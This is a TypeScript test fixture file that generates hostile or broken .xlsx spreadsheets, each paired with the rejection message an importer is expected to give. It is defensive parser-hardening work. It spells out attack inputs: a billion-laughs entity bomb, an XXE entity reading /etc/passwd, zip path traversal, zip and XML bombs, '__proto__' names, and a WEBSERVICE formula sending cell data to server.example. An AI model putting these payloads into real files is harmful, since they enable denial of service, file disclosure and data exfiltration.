// Malicious or broken spreadsheets, each with the refusal to expect. Their bytes are created on demand.
import {
  craftedParts,
  relations,
  SHEET,
  STRINGS,
  sheetTag,
  strings,
  TEN_ROWS,
  WORKBOOK,
  WORKBOOK_RELATIONS,
  workbook,
  worksheet,
} from './crafted-book.test-support.ts'
import { type CraftedPart, craftedZip } from './crafted-zip.test-support.ts'

export interface Hazard {
  readonly name: string
  readonly bytes: () => Buffer
  /** a part of the refusal that no other fault has, or 'harmless' if the file is read as if the hazard were absent */
  readonly expected: string | 'harmless'
}

const hazard = (name: string, expected: string, bytes: () => Buffer): Hazard => ({ name, bytes, expected })

type Replacements = Parameters<typeof craftedParts>[0]
const file = (replacements: Replacements) => () => craftedZip(craftedParts(replacements))
const inSheet = (rows: string) => file({ [SHEET]: worksheet(TEN_ROWS + rows) })
const afterSheet = (after: string) => file({ [SHEET]: worksheet(TEN_ROWS, { after }) })
const afterSheets = (after: string) => file({ [WORKBOOK]: workbook(sheetTag('Matrix', 1), { after }) })
const name = (range: string) => `<definedNames><definedName name="x">${range}</definedName></definedNames>`
const MEGABYTE = 1 << 20

/** Returns a sheet with `unit` repeated between the ten rows and the end, to at most this many megabytes. */
function filledWith(megabytes: number, unit: string, { before = '', after = '' } = {}): Omit<CraftedPart, 'name'> {
  const [head = '', tail = ''] = worksheet(`${TEN_ROWS}${before}|${after}`).split('|')
  const block = unit.repeat(Math.ceil(MEGABYTE / 4 / unit.length))
  return { repeated: { before: head, block, times: Math.floor((megabytes * MEGABYTE) / block.length), after: tail } }
}

const FILES: Hazard[] = [
  hazard('an empty file', 'is empty', () => Buffer.alloc(0)),
  hazard('a picture', 'is not a spreadsheet in .xlsx format', () => Buffer.from('\x89PNG\r\n\x1a\n and so on', 'latin1')),
  hazard('plain text', 'is not a spreadsheet in .xlsx format', () => Buffer.from('ID,H1\nE1,CC\n')),
  hazard('an old .xls', 'is an old .xls', () => oldOffice('Workbook')),
  hazard('an .xlsx with a password', 'is an old .xls', () => oldOffice('EncryptedPackage')),
  hazard('eleven megabytes', '10 MB', () => Buffer.concat([craftedZip(craftedParts()), Buffer.alloc(11 * MEGABYTE)])),
]

function oldOffice(stream: string): Buffer {
  const bytes = Buffer.alloc(1536)
  bytes.write('d0cf11e0a1b11ae1', 'hex')
  bytes.write(stream, 1024, 'utf16le')
  return bytes
}

const ZIPS: Hazard[] = [
  hazard('a zip that is cut off', 'its end is missing', () => craftedZip(craftedParts()).subarray(0, -60)),
  hazard('a zip with bytes after its end', 'its end is missing', () => Buffer.concat([craftedZip(craftedParts()), Buffer.alloc(9)])),
  hazard('zip64', 'zip64', () => craftedZip(craftedParts(), { 8: 0xffff, 10: 0xffff })),
  hazard('a zip split into several files', 'split into several', () => craftedZip(craftedParts(), { 4: 1, 6: 1 })),
  hazard('a directory outside the file', 'its list of parts lies outside', () => craftedZip(craftedParts(), { 18: 0x10 })),
  hazard('an encrypted part', 'are encrypted', file({ [SHEET]: { text: worksheet(''), flags: 1 } })),
  hazard('an unsupported compression method', 'method 12', file({ [SHEET]: { text: worksheet(''), method: 12 } })),
  hazard(
    '1,201 parts',
    '1,200 parts',
    file(Object.fromEntries(Array.from({ length: 1195 }, (_, index) => [`xl/extra/part${index}.xml`, { text: '', stored: true }]))),
  ),
  hazard('a path that leaves the folder', 'name that no spreadsheet program', file({ '../../../../tmp/outside.txt': 'x' })),
  hazard('a path from the root', 'name that no spreadsheet program', file({ '/etc/evil': 'x' })),
  hazard('a duplicate part', 'two parts of the same name', file({ 'XL/Worksheets/Sheet1.xml': worksheet('') })),
  hazard('macros', 'has macros', file({ 'xl/vbaProject.bin': 'x' })),
  hazard(
    'a part that declares too small a size',
    'larger than the file declares',
    file({ [SHEET]: { text: worksheet(TEN_ROWS), size: 100 } }),
  ),
  hazard('a part that declares too large a size', 'is smaller than', file({ [SHEET]: { text: worksheet(TEN_ROWS), size: 20 * MEGABYTE } })),
  hazard('a wrong checksum', 'its checksum is wrong', file({ [SHEET]: { text: worksheet(TEN_ROWS), crc: 1 } })),
  hazard('a part that cannot be unpacked', 'it cannot be unpacked', () =>
    corruptPart(craftedZip(craftedParts()), 'xl/worksheets/sheet1.xml'),
  ),
  hazard('overlapping parts', 'overlap', () =>
    craftedZip([...craftedParts(), { name: 'xl/worksheets/sheet2.xml', text: worksheet(TEN_ROWS), at: SHEET }]),
  ),
  hazard('300 MB of blanks', 'larger than 24 MB', file({ [SHEET]: filledWith(300, ' ') })),
  hazard(
    '300 MB of blanks with a small declared size',
    'larger than the file declares',
    file({ [SHEET]: { ...filledWith(300, ' '), size: 40_000 } }),
  ),
  hazard('100 MB of cells', 'larger than 24 MB', file({ [SHEET]: filledWith(100, '<row><c><v>1</v></c></row>') })),
  hazard(
    'three parts of 23 MB',
    '64 MB together',
    file({ [SHEET]: filledWith(23, ' '), [STRINGS]: filledWith(23, ' '), 'xl/styles.xml': filledWith(23, ' ') }),
  ),
]

/** Overwrites the beginning of a packed part with a block type that does not exist. */
function corruptPart(zip: Buffer, part: string): Buffer {
  zip.fill(0xff, zip.indexOf(part) + part.length, zip.indexOf(part) + part.length + 8)
  return zip
}

const laughs = Array.from({ length: 20 }, (_, index) => `<!ENTITY a${index} "${index ? `&a${index - 1};`.repeat(10) : 'ha'}">`).join('')

const TOO_LONG = 'more than 1,000,000 characters, comments or instructions without an element'
const inCell = (before = '', after = '') => ({ before: `<row><c t="str"><v>${before}`, after: `${after}</v></c></row>` })

const MARKUP: Hazard[] = [
  hazard('a billion laughs', 'a document type declaration', withDoctype(laughs, '&a19;')),
  hazard('an entity from a file', 'a document type declaration', withDoctype('<!ENTITY x SYSTEM "file:///etc/passwd">', '&x;')),
  hazard('XML that is cut off', 'its XML is broken', file({ [SHEET]: worksheet(TEN_ROWS).slice(0, -40) })),
  hazard('XML that is cut off after all cells', 'its XML is broken', file({ [SHEET]: worksheet(TEN_ROWS).replace('</worksheet>', '') })),
  hazard(
    'characters that are not UTF-8',
    'not written in UTF-8',
    file({ [SHEET]: { bytes: Buffer.from(worksheet('<row><c t="str"><v>\xe9</v></c></row>'), 'latin1') } }),
  ),
  hazard('UTF-16', 'not written in UTF-8', file({ [SHEET]: { bytes: Buffer.from(`\ufeff${worksheet(TEN_ROWS)}`, 'utf16le') } })),
  hazard('another encoding', 'not written in UTF-8', file({ [SHEET]: worksheet(TEN_ROWS).replace('UTF-8', 'ISO-8859-1') })),
  hazard('endlessly nested elements', '64 levels deep', file({ [SHEET]: filledWith(10, '<x>') })),
  hazard('23 MB of empty rows', '2,500,000 elements', file({ [SHEET]: filledWith(23, '<row/>') })),
  hazard('23 MB of attributes', 'more than 256 attributes', file({ [SHEET]: { repeated: attributes() } })),
  hazard('23 MB of blanks', TOO_LONG, file({ [SHEET]: filledWith(23, ' ') })),
  hazard('a comment of 20 MB', TOO_LONG, file({ [SHEET]: filledWith(20, '- ', { before: '<!--', after: '-->' }) })),
  hazard('3 million empty comments', TOO_LONG, file({ [SHEET]: filledWith(20, '<!---->') })),
  hazard('an instruction of 20 MB', TOO_LONG, file({ [SHEET]: filledWith(20, '? ', { before: '<?x ', after: '?>' }) })),
  hazard('2 million instructions', TOO_LONG, file({ [SHEET]: filledWith(20, '<?x y?>') })),
  hazard('20 MB of unparsed text', TOO_LONG, file({ [SHEET]: filledWith(20, ']', inCell('<![CDATA[', ']]>')) })),
  hazard('2 million empty unparsed texts', TOO_LONG, file({ [SHEET]: filledWith(20, '<![CDATA[]]>', inCell()) })),
  hazard('4 million character references', TOO_LONG, file({ [SHEET]: filledWith(20, '&#65;', inCell()) })),
  hazard('an attribute of 20 MB', TOO_LONG, file({ [SHEET]: filledWith(20, '&#65;', { before: '<row a="', after: '"/>' }) })),
  hazard('a name of 20 MB', TOO_LONG, file({ [SHEET]: filledWith(20, 'a', { before: '<', after: '/>' }) })),
]

function withDoctype(declarations: string, text: string) {
  const doctype = `<!DOCTYPE worksheet [${declarations}]>`
  return file({ [SHEET]: worksheet(`${TEN_ROWS}<row><c t="str"><v>${text}</v></c></row>`, { doctype }) })
}

/** Repeats one attribute name, because different names would compress badly. */
function attributes() {
  return {
    before: `${worksheet('').split('</sheetData>')[0]}<row><c`,
    block: ' a="1"'.repeat(50_000),
    times: 80,
    after: '/></row></sheetData></worksheet>',
  }
}

const REFERENCES: Hazard[] = [
  hazard('a defined name for cells of a sheet __proto__', 'harmless', afterSheets(name("'__proto__'!$A$7:$B$8"))),
  hazard('a defined name for a whole sheet', 'harmless', afterSheets(name('Matrix!$A$1:$XFD$1048576'))),
  hazard('a validation of ten whole columns', 'harmless', afterSheet(validation('B2:K1048576'))),
  hazard('a validation of all cells', 'harmless', afterSheet(validation('A1:XFD1048576'))),
  hazard('a merge of all cells', 'harmless', afterSheet('<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>')),
  hazard(
    'two billion columns',
    'harmless',
    file({ [SHEET]: worksheet(TEN_ROWS, { before: '<cols><col min="1" max="2000000000" width="9"/></cols>' }) }),
  ),
  hazard('a huge dimension', 'harmless', file({ [SHEET]: worksheet(TEN_ROWS, { before: '<dimension ref="A1:XFD1048576"/>' }) })),
  hazard('an empty row 4,294,967,294', 'harmless', inSheet('<row r="4294967294"/>')),
  hazard(
    'a cell in row 4,294,967,294',
    'in row 4,294,967,294. At most 10,000',
    inSheet('<row r="4294967294"><c r="A4294967294"><v>1</v></c></row>'),
  ),
  hazard('row 10,001', 'in row 10,001. At most 10,000', inSheet('<row r="10001"><c r="A10001"><v>1</v></c></row>')),
  hazard('column IW', 'content in IW11. At most 256 columns', inSheet('<row r="11"><c r="IW11"><v>1</v></c></row>')),
  hazard('a row with an invalid number', 'row with the invalid number', inSheet('<row r="1e3"/>')),
  hazard('an invalid cell address', 'cell with the invalid address', inSheet('<row r="50"><c r="ZZZZZ50"><v>1</v></c></row>')),
  hazard('a cell in another row', 'where it does not belong', inSheet('<row r="11"><c r="A12"><v>1</v></c></row>')),
  hazard('a duplicate cell', 'the cell A3 twice', inSheet('<row r="3"><c r="A3"><v>1</v></c></row>')),
  hazard(
    'array formulas over all cells',
    'in row 10,001. At most 10,000',
    file({ [SHEET]: filledWith(23, '<row><c><f t="array" ref="A1:XFD1048576"/></c></row>') }),
  ),
  hazard(
    'a link to another file and to a server',
    'harmless',
    inSheet('<row r="11"><c r="A11"><f>[1]Sheet1!A1</f></c><c r="B11"><f>WEBSERVICE("http://server.example/"&amp;A1)</f></c></row>'),
  ),
]

function validation(range: string): string {
  return `<dataValidations count="1"><dataValidation type="list" sqref="${range}"><formula1>"a"</formula1></dataValidation></dataValidations>`
}

const VALUES: Hazard[] = [
  hazard('a missing shared text', 'a text that is missing from the file', inSheet('<row r="11"><c r="A11" t="s"><v>99999</v></c></row>')),
  hazard(
    'the shared text __proto__',
    'a text that is missing from the file',
    inSheet('<row r="11"><c r="A11" t="s"><v>__proto__</v></c></row>'),
  ),
  hazard('a word as a number', 'should hold a number', inSheet('<row r="11"><c r="A11"><v>abc</v></c></row>')),
  hazard('a number that is too large', 'a number that is too large', inSheet('<row r="11"><c r="A11"><v>1e400</v></c></row>')),
  hazard('an invalid TRUE or FALSE', 'should hold TRUE or FALSE', inSheet('<row r="11"><c r="A11" t="b"><v>2</v></c></row>')),
  hazard('an unknown type of value', 'an unknown type of value', inSheet('<row r="11"><c r="A11" t="z"><v>1</v></c></row>')),
  hazard(
    '40,000 characters',
    'characters. A cell can hold at most',
    inSheet(`<row r="11"><c r="A11" t="inlineStr"><is><t>${'x'.repeat(40_000)}</t></is></c></row>`),
  ),
  hazard('a text of 23 MB', TOO_LONG, file({ [SHEET]: filledWith(23, 'x', inCell()) })),
  hazard('3 million escaped characters in one text', TOO_LONG, file({ [SHEET]: filledWith(23, '_x0041_', inCell()) })),
  hazard(
    '3 million escaped characters in runs of one text',
    'characters. A cell can hold at most',
    file({ [STRINGS]: manyStrings(`<r><t>${'_x0041_'.repeat(20)}</t></r>`, 23, '<si>', '</si>') }),
  ),
  hazard(
    'a million runs in one text',
    'characters. A cell can hold at most',
    file({ [STRINGS]: manyStrings('<r><t>a</t></r>', 15, '<si>', '</si>') }),
  ),
  hazard(
    '3 million escaped characters in 16,000 texts',
    'harmless',
    file({ [STRINGS]: manyStrings(`<si><t>${'_x0041_'.repeat(200)}</t></si>`, 23, '<si><t>shared</t></si>') }),
  ),
  hazard(
    'a text of 32,000 characters in 290,000 cells',
    '32,000,000 characters together',
    file({
      [STRINGS]: strings(`<si><t>${'x'.repeat(32_000)}</t></si>`),
      [SHEET]: { repeated: manyCells('<c t="s"><v>0</v></c>', 29) },
    }),
  ),
  hazard('310,000 cells', '300,000 cells', file({ [SHEET]: { repeated: manyCells('<c><v>1</v></c>', 31) } })),
  hazard(
    '500,000 shared texts',
    '400,000 different texts',
    file({
      [STRINGS]: {
        repeated: { before: strings('').replace('</sst>', ''), block: '<si><t/></si>'.repeat(1000), times: 500, after: '</sst>' },
      },
    }),
  ),
]

/** 10,000 rows of this many cells. */
function manyCells(cell: string, columns: number) {
  const [before = '', after = ''] = worksheet('|').split('|')
  return { before, block: `<row>${cell.repeat(columns)}</row>`, times: 10_000, after }
}

/** Shared texts with `unit` repeated to at most this many megabytes. */
function manyStrings(unit: string, megabytes: number, first: string, last = ''): Omit<CraftedPart, 'name'> {
  const [before = '', after = ''] = strings(`${first}|${last}`).split('|')
  const block = unit.repeat(Math.ceil(MEGABYTE / 4 / unit.length))
  return { repeated: { before, block, times: Math.floor((megabytes * MEGABYTE) / block.length), after } }
}

const severalSheets = (names: readonly string[], part: (index: number) => string) =>
  file({
    [WORKBOOK]: workbook(names.map((one, index) => sheetTag(one, index + 1)).join('')),
    [WORKBOOK_RELATIONS]: relations(names.map((_, index) => [index + 1, 'worksheet', part(index)])),
    'xl/worksheets/sheet2.xml': worksheet(TEN_ROWS),
  })

const WORKBOOKS: Hazard[] = [
  hazard('no workbook', 'no workbook in this file', file({ [WORKBOOK]: null })),
  hazard(
    '100,000 relations',
    '2,000 relations',
    file({ [WORKBOOK_RELATIONS]: relations(Array.from({ length: 100_000 }, (_, index) => [index, 'worksheet', 'worksheets/sheet1.xml'])) }),
  ),
  hazard('a text document', 'another kind of document', file({ [WORKBOOK]: '<document><body/></document>' })),
  hazard(
    'two sheets of the same name',
    'Two sheets in this file',
    severalSheets(['Matrix', 'mAtrix'], (index) => `worksheets/sheet${index + 1}.xml`),
  ),
  hazard(
    'a sheet without a name',
    'has no name',
    severalSheets(['Matrix', ''], (index) => `worksheets/sheet${index + 1}.xml`),
  ),
  hazard(
    'a missing sheet',
    'is listed in this file but missing',
    severalSheets(['Matrix', 'Lost'], (index) => `worksheets/sheet${index * 2 + 1}.xml`),
  ),
  hazard(
    'two sheets with the same content',
    'shares its contents',
    severalSheets(['Matrix', 'Twin'], () => 'worksheets/sheet1.xml'),
  ),
  hazard('a sheet that is no worksheet', 'is not a worksheet', file({ [SHEET]: '<workbook/>' })),
  hazard(
    '301 sheets',
    '300 sheets',
    severalSheets(
      Array.from({ length: 301 }, (_, index) => `S${index}`),
      () => 'worksheets/sheet1.xml',
    ),
  ),
]

export const HAZARDS: readonly Hazard[] = [...FILES, ...ZIPS, ...MARKUP, ...REFERENCES, ...VALUES, ...WORKBOOKS]
